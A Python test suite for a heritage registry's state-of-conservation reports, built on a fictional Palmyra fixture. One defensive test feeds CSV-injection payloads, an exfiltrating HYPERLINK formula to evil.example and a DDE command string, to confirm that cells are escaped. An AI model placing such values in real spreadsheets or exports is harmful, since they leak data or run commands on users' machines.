"""State-of-conservation reports: every format tells the same story, for any date."""

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal

import geojson
import pytest
from geojson_pydantic import FeatureCollection
from sqlalchemy import update

from app.assessments.models import DamageAssessment
from app.monuments.models import Monument
from tests.factories import (
    create_assessment,
    create_monument,
    create_restoration,
    create_site,
)


def report_url(site_id: int) -> str:
    return f"/api/v1/reports/sites/{site_id}/state-of-conservation"


def backdate_review(database, assessment_id: int, day: str) -> None:
    """Arrange history: the assessment was verified on `day` (noon UTC)."""
    reviewed_at = datetime.fromisoformat(day).replace(hour=12, tzinfo=UTC)
    with database.session(write=True) as session:
        session.execute(
            update(DamageAssessment)
            .where(DamageAssessment.id == assessment_id)
            .values(reviewed_at=reviewed_at)
        )


@pytest.fixture
def palmyra(database):
    """A small Palmyra: Bel destroyed, the Arch severely damaged then destroyed, a sensitive
    tomb destroyed, the Agora unassessed, and restoration opinions with costs."""
    site_id = create_site(database, whc_id=23)
    bel = create_monument(database, site_id, name="Temple of Bel")
    arch = create_monument(
        database, site_id, name="Monumental Arch", type="arch", lat=34.5508, lon=38.2703
    )
    tomb = create_monument(
        database,
        site_id,
        name="Tower of Elahbel",
        type="tomb",
        lat=34.55358,
        lon=38.25032,
        sensitive=True,
    )
    agora = create_monument(database, site_id, name="Agora", type="agora", lat=34.5505, lon=38.2665)
    with database.session(write=True) as session:  # recorded in the registry back in 2010
        session.execute(
            update(Monument)
            .where(Monument.site_id == site_id)
            .values(created_at=datetime(2010, 1, 1, tzinfo=UTC))
        )
    timeline = [
        (bel, "2015-08-31", "destroyed", ["deliberate_destruction", "explosives"], "2015-09-02"),
        (arch, "2015-09-20", "severe_damage", ["military_activity"], "2015-09-25"),
        (arch, "2015-10-04", "destroyed", ["deliberate_destruction", "explosives"], "2015-10-06"),
        (tomb, "2015-09-02", "destroyed", ["deliberate_destruction", "looting"], "2015-09-04"),
    ]
    for monument_id, observed_on, level, causes, verified_on in timeline:
        assessment_id = create_assessment(
            database,
            monument_id,
            status="verified",
            observed_on=observed_on,
            damage_level=level,
            causes=causes,
        )
        backdate_review(database, assessment_id, verified_on)
    create_restoration(
        database,
        arch,
        priority="urgent",
        prerequisites=["demining", "security_clearance"],
        estimated_cost={"amount": "1500000.10", "currency": "USD"},
    )
    create_restoration(
        database,
        bel,
        priority="high",
        prerequisites=["demining"],
        estimated_cost={"amount": "2500000.205", "currency": "USD"},
    )
    create_restoration(
        database,
        tomb,
        priority=None,
        prerequisites=["funding"],
        estimated_cost={"amount": "300000", "currency": "EUR"},
    )
    return {"site": site_id, "bel": bel, "arch": arch, "tomb": tomb, "agora": agora}


def test_json_report_summarises_the_property(client, palmyra):
    response = client.get(report_url(palmyra["site"]))
    assert response.status_code == 200, response.text
    report = response.json()

    assert report["property"]["whc_id"] == 23
    assert [m["id"] for m in report["monuments"]] == [
        palmyra["bel"],
        palmyra["arch"],
        palmyra["tomb"],
        palmyra["agora"],
    ]
    summary = report["summary"]
    assert summary["by_damage_level"] == {
        "no_visible_damage": 0,
        "possible_damage": 0,
        "moderate_damage": 0,
        "severe_damage": 0,
        "destroyed": 3,
        "unassessed": 1,
    }
    assert sum(summary["by_damage_level"].values()) == summary["monuments"] == 4
    assert summary["destroyed_or_severe_share"] == 0.75
    factors = {f["cause"]: f["monument_ids"] for f in summary["factors"]}
    assert factors["deliberate_destruction"] == [palmyra["bel"], palmyra["arch"], palmyra["tomb"]]
    assert factors["looting"] == [palmyra["tomb"]]
    assert (
        "military_activity" not in factors
    )  # the Arch's earlier observation is superseded by date
    needs = summary["restoration_needs"]
    assert needs["by_priority"] == {"urgent": 1, "high": 1, "medium": 0, "low": 0, "unstated": 1}
    assert needs["estimated_cost"] == [
        {"amount": "300000.00", "currency": "EUR"},
        {"amount": "4000000.305", "currency": "USD"},
    ]
    waiting = {n["prerequisite"]: n["monuments_waiting"] for n in needs["prerequisites"]}
    assert waiting == {"demining": 2, "security_clearance": 1, "funding": 1}


def test_provenance_names_the_audit_chain_head(client, auth, palmyra):
    report = client.get(report_url(palmyra["site"])).json()
    verification = client.get("/api/v1/audit/verify", headers=auth("staff")).json()
    assert report["provenance"]["audit_chain_head"] == verification["head"]
    assert report["provenance"]["audit_events"] == verification["length"]


def test_as_of_and_compare_to_follow_the_timeline(client, palmyra):
    def levels(as_of):
        report = client.get(report_url(palmyra["site"]), params={"as_of": as_of}).json()
        return {
            m["id"]: m["condition"]["damage_level"] if m["condition"] else None
            for m in report["monuments"]
        }

    assert levels("2015-08-31") == {palmyra[k]: None for k in ("bel", "arch", "tomb", "agora")}
    on_sept_30 = levels("2015-09-30")
    assert on_sept_30[palmyra["bel"]] == "destroyed"
    assert on_sept_30[palmyra["arch"]] == "severe_damage"
    assert levels("2015-10-06")[palmyra["arch"]] == "destroyed"

    compared = client.get(
        report_url(palmyra["site"]), params={"as_of": "2015-10-31", "compare_to": "2015-09-03"}
    ).json()["comparison"]
    changes = {(c["monument_id"], c["from_level"], c["to_level"]) for c in compared["changes"]}
    assert changes == {
        (palmyra["arch"], "unassessed", "destroyed"),
        (palmyra["tomb"], "unassessed", "destroyed"),
    }


def parse_csv(response) -> list[dict]:
    assert response.content.startswith("\ufeff".encode())  # BOM: spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_json_csv_and_geojson_agree(client, palmyra):
    url = report_url(palmyra["site"])
    report = client.get(url).json()
    rows = parse_csv(client.get(url, params={"format": "csv"}))
    collection_response = client.get(url, headers={"Accept": "application/geo+json"})
    assert collection_response.headers["content-type"] == "application/geo+json"
    collection = geojson.loads(collection_response.text)
    assert collection.is_valid, collection.errors()
    FeatureCollection.model_validate_json(collection_response.text)

    json_levels = [
        (m["condition"] or {}).get("damage_level", "unassessed") for m in report["monuments"]
    ]
    csv_levels = [row["damage_level"] for row in rows]
    geo_levels = [f["properties"]["damage_level"] for f in collection["features"]]
    assert json_levels == csv_levels == geo_levels
    assert [int(r["monument_id"]) for r in rows] == [m["id"] for m in report["monuments"]]
    for row, feature, monument in zip(
        rows, collection["features"], report["monuments"], strict=True
    ):
        assert float(row["lat"]) == monument["lat"] == feature["geometry"]["coordinates"][1]
        assert float(row["lon"]) == monument["lon"] == feature["geometry"]["coordinates"][0]


def test_csv_keeps_arabic_names_and_a_stable_header(client, database):
    site_id = create_site(database)
    create_monument(database, site_id, name="معبد بل", alt_names=["Temple of Bel"])
    response = client.get(report_url(site_id), params={"format": "csv"})
    rows = parse_csv(response)
    assert rows[0]["name"] == "معبد بل"
    from app.reports.formats import CSV_COLUMNS

    assert list(rows[0]) == CSV_COLUMNS


def test_csv_cells_are_never_read_as_spreadsheet_formulas(client, database):
    site_id = create_site(database)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bel")'
    create_monument(
        database,
        site_id,
        name=formula,
        alt_names=["@SUM(1+1)*cmd|' /C calc'!A0"],
        period="+1+2",
        lat=-13.1631,
        lon=-72.545,
    )

    rows = parse_csv(client.get(report_url(site_id), params={"format": "csv"}))

    assert rows[0]["name"] == "'" + formula
    assert rows[0]["alt_names"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[0]["period"] == "'+1+2"
    # Numbers stay numbers, and other formats keep the text as it was given.
    assert (rows[0]["lat"], rows[0]["lon"]) == ("-13.1631", "-72.545")
    monument = client.get(report_url(site_id)).json()["monuments"][0]
    assert monument["name"] == formula


@pytest.mark.parametrize("role", [None, "partner"])
def test_sensitive_positions_stay_generalised_in_every_format(client, auth, palmyra, role):
    url = report_url(palmyra["site"])
    for fmt in ("json", "csv", "geojson", "html"):
        text = client.get(url, params={"format": fmt}, headers=auth(role)).text
        assert "34.55358" not in text and "38.25032" not in text, fmt
    tomb = next(
        m
        for m in client.get(url, headers=auth(role)).json()["monuments"]
        if m["id"] == palmyra["tomb"]
    )
    assert (tomb["lat"], tomb["lon"], tomb["location_generalised"]) == (34.6, 38.3, True)
    staff_view = client.get(url, params={"format": "csv"}, headers=auth("staff")).text
    assert "34.55358" in staff_view


def test_html_and_pdf_are_printable_and_self_contained(client, palmyra):
    url = report_url(palmyra["site"])
    html = client.get(url, headers={"Accept": "text/html"})
    assert html.headers["content-type"].startswith("text/html")
    assert html.text.count("<tr data-monument-id=") == 4
    assert 'id="damage-chart"' in html.text and 'id="site-map"' in html.text
    assert "http://" not in html.text.replace("http://www.w3.org/2000/svg", "")
    assert "https://" not in html.text
    pdf = client.get(url, params={"format": "pdf"})
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF-")
    assert 'filename="state-of-conservation-site-' in pdf.headers["content-disposition"]


def test_the_html_report_may_run_nothing_and_load_nothing(client, auth, palmyra):
    api = client.get(report_url(palmyra["site"]), params={"format": "html"})
    page = client.get(f"/ui/sites/{palmyra['site']}/report", headers=auth(None))

    for response in (api, page):
        policy = response.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "script-src" not in policy
        assert "img-src data:" in policy and "frame-ancestors 'none'" in policy
        assert response.headers["x-content-type-options"] == "nosniff"


def test_unproducible_accept_is_406(client, palmyra):
    response = client.get(report_url(palmyra["site"]), headers={"Accept": "image/png"})
    assert response.status_code == 406
    assert "format=" in response.json()["detail"]
    assert client.get(report_url(palmyra["site"]), params={"format": "xlsx"}).status_code == 422
    assert client.get(report_url(999999)).status_code == 404


def test_monuments_added_or_withdrawn_later_are_not_in_an_earlier_report(client, auth, palmyra):
    client.delete(f"/api/v1/monuments/{palmyra['agora']}", headers=auth("admin"))
    today = client.get(report_url(palmyra["site"])).json()
    assert palmyra["agora"] not in [m["id"] for m in today["monuments"]]
    long_ago = client.get(report_url(palmyra["site"]), params={"as_of": "2000-01-01"}).json()
    assert long_ago["monuments"] == []
    assert long_ago["summary"]["destroyed_or_severe_share"] == 0


def test_registry_summary_groups_counts(client, database, palmyra):
    iraq = create_site(database, name="Hatra", country="IQ", whc_id=277)
    hatra = create_monument(database, iraq, name="Temple of Shamash", lat=35.58, lon=42.72)
    create_assessment(database, hatra, status="verified", damage_level="severe_damage")

    by_site = client.get("/api/v1/reports/summary", params={"group_by": "site"}).json()
    assert by_site["monuments"] == 5
    groups = {g["label"]: g for g in by_site["groups"]}
    assert groups["Site of Palmyra"]["by_damage_level"]["destroyed"] == 3
    assert groups["Hatra"]["by_damage_level"]["severe_damage"] == 1

    syria = client.get(
        "/api/v1/reports/summary", params={"country": "SY", "group_by": "damage_level"}
    ).json()
    assert {g["key"]: g["monuments"] for g in syria["groups"]} == {"destroyed": 3, "unassessed": 1}

    by_type = client.get("/api/v1/reports/summary", params={"group_by": "type"}).json()
    assert {g["key"]: g["monuments"] for g in by_type["groups"]} == {
        "temple": 2,
        "arch": 1,
        "tomb": 1,
        "agora": 1,
    }
    assert client.get("/api/v1/reports/summary", params={"group_by": "colour"}).status_code == 422


def test_money_totals_are_exact(client, palmyra):
    totals = client.get(report_url(palmyra["site"])).json()["summary"]["restoration_needs"]
    usd = next(c for c in totals["estimated_cost"] if c["currency"] == "USD")
    assert Decimal(usd["amount"]) == Decimal("1500000.10") + Decimal("2500000.205")
    assert json.dumps(usd)  # amounts are strings, never floats


def test_photo_evidence_is_counted_and_the_latest_thumbnail_embedded(client, database, palmyra):
    from tests.factories import create_photo

    create_photo(database, client.app.state.storage, palmyra["bel"])
    url = report_url(palmyra["site"])
    bel = next(m for m in client.get(url).json()["monuments"] if m["id"] == palmyra["bel"])
    assert bel["evidence"]["photos"] == 1
    assert bel["evidence"]["latest_photo_on"] is not None
    rows = {int(r["monument_id"]): r for r in parse_csv(client.get(url, params={"format": "csv"}))}
    assert rows[palmyra["bel"]]["photos"] == "1" and rows[palmyra["arch"]]["photos"] == "0"
    html = client.get(url, params={"format": "html"}).text
    assert html.count('class="thumbnail" src="data:image/jpeg;base64,') == 1
    # The PDF embeds the same thumbnail (found by the fuzzer: this answered 500 once).
    pdf = client.get(url, params={"format": "pdf"})
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
    assert b"/Subtype /Image" in pdf.content or b"/Subtype/Image" in pdf.content
    earlier = client.get(url, params={"as_of": "2016-01-01"}).json()["monuments"]
    assert all(m["evidence"]["photos"] == 0 for m in earlier)  # uploaded today
